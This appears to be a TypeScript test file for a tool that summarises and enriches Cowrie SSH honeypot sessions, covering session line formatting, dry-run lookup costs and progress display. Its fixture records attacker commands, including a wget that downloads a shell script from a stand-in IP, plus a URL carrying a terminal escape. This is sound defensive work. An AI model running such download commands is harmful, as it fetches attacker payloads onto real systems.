import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { CowrieEnrichResult, SessionRecord } from '../../cowrie/index.js';
import { costRows, cowrieProgressState, renderCowrie, sessionLine } from './cowrie.js';

const SESSION: SessionRecord = {
  session: 'a1b2c3d4e5f6',
  srcIp: '203.0.113.9',
  srcPort: 40000,
  dstPort: 22,
  protocol: 'ssh',
  sensor: null,
  startAt: Date.UTC(2024, 0, 28, 10, 0, 0),
  endAt: Date.UTC(2024, 0, 28, 10, 0, 42),
  durationMs: 42_000,
  clientVersion: null,
  hassh: null,
  loginAttempts: 2,
  loginSuccess: true,
  usernames: ['root'],
  passwords: ['x'],
  idleClosed: false,
  tunnels: [],
  commands: ['uname -a', 'wget http://198.51.100.7/x.sh'],
  downloads: 1,
  uploads: 0,
  events: 9,
  closed: true,
  verdict: 'malicious',
  indicators: [
    { kind: 'ip', value: '203.0.113.9', id: '203.0.113.9', verdict: 'harmless', providers: {} },
    { kind: 'url', value: 'http://198.51.100.7/x.sh\u001b[2J', id: 'u', verdict: 'malicious', providers: {} },
  ],
};

test('a followed session is one line: when, who, what happened, worst indicators first, no terminal escapes', () => {
  const line = sessionLine(SESSION);
  assert.equal(line.split('\n').length, 2, 'one line');
  assert.match(line, /^2024-01-28T10:00:42Z {2}203\.0\.113\.9 {2}ssh {2}a1b2c3d4e5f6 {2}malicious {2}2 login\(s\) ok, 2 command\(s\), 1 download\(s\), 0 upload\(s\) {2}http:\/\/198\.51\.100\.7\/x\.sh\?\[2J \(malicious\), 203\.0\.113\.9 \(harmless\)\n$/);
  assert.ok(!line.includes('\u001b'));
});

test('a dry run prints its cost per provider in every machine format; skipped providers keep their note', () => {
  const result = {
    report: {
      dryRun: true,
      providers: [
        { provider: 'virustotal', enabled: true, lookups: 0, fromCache: 0, upstreamCalls: 0, failed: 0 },
        { provider: 'spur', enabled: false, note: 'no SPUR_API_KEY', lookups: 0, fromCache: 0, upstreamCalls: 0, failed: 0 },
      ],
    },
    estimate: { virustotal: { provider: 'virustotal', total: 7, invalid: 0, duplicates: 0, cached: 2, inFlight: 0, upstream: 5, etaMs: 75_000, quota: { status: 'healthy' } } },
    stats: { lines: 10 },
  } as unknown as CowrieEnrichResult;
  const rows = costRows(result);
  assert.deepEqual(
    rows.map((r) => [r.provider, r.enabled, r.note, r.lookups, r.cached, r.upstream]),
    [
      ['virustotal', true, null, 7, 2, 5],
      ['spur', false, 'no SPUR_API_KEY', 0, 0, 0],
    ],
  );
  const writers = { enrichmentSummaryText: () => 'summary\n', toJson: () => '{}', toNdjson: () => '', toCsv: () => '' };
  assert.deepEqual(JSON.parse(renderCowrie(writers, result, 'json')), { dryRun: true, providers: rows, stats: { lines: 10 } });
  assert.deepEqual(renderCowrie(writers, result, 'ndjson').trim().split('\n').map((l) => JSON.parse(l)), rows);
  const csv = renderCowrie(writers, result, 'csv').trim().split('\n');
  assert.equal(csv[0], 'provider,enabled,note,lookups,cached,inFlight,upstream,etaMs,quotaStatus');
  assert.equal(csv[1], 'virustotal,true,,7,2,0,5,75000,healthy');
  assert.equal(renderCowrie(writers, result, 'summary'), 'summary\n');
});

test('progress reads in bytes, then counts lookups', () => {
  const base = { files: 1, bytesTotal: 3 * 1024 * 1024, lines: 10, badLines: 1, sessions: 2, indicators: 3, lookupsDone: 4, lookupsTotal: 9, upstreamCalls: 2 };
  const read = cowrieProgressState({ ...base, phase: 'read', bytesRead: 1024 * 1024 });
  assert.equal(read.phase, 'cowrie read');
  assert.equal(`${read.unit?.(read.done)}/${read.unit?.(read.total)}`, '1.0 MB/3.0 MB');
  assert.equal(read.detail, '10 lines, 1 bad, 2 sessions');
  const enrich = cowrieProgressState({ ...base, phase: 'enrich', bytesRead: base.bytesTotal });
  assert.deepEqual([enrich.phase, enrich.done, enrich.total, enrich.unit, enrich.detail], ['cowrie lookups', 4, 9, undefined, '2 upstream calls, 10 lines, 1 bad']);
});
